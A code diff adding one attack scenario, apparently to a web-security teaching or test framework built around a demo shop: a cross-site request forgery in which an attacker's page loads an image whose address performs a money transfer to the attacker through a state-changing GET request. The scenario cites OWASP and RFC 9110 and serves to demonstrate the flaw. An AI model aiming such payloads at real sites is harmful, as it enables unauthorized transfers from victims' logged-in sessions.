@@ -1,0 +1,22 @@
+/** An image on a page of another site, whose address is a transfer. Not: possible where safe methods change nothing. */
+import { document, rfc } from '#sources/sources';
+import { ORIGIN } from '../origins';
+import { ATTACKER_NAME } from '../shop';
+import type { AttackUnit } from '../attack';
+
+const attack: AttackUnit = {
+  order: 21,
+  group: 'requests from elsewhere',
+  label: 'Image that transfers',
+  says: 'The victim opens a page of the attacker’s with an image on it. Its address makes a transfer at the shop, if the shop lets GET change something and the browser adds the cookies.',
+  grants: ['a page that the victim opens'],
+  sources: [document('owasp-csrf'), rfc(9110, '9.2.1')],
+  scene: ['log-in', 'read-orders'],
+  presupposes: { crossSite: 'yes', defences: ['secure'] },
+  play: async (hands) => {
+    const page = await hands.ownPage();
+    await page.image(`${ORIGIN}/transfer?to=${ATTACKER_NAME}&cents=5000`);
+  },
+};
+
+export default attack;
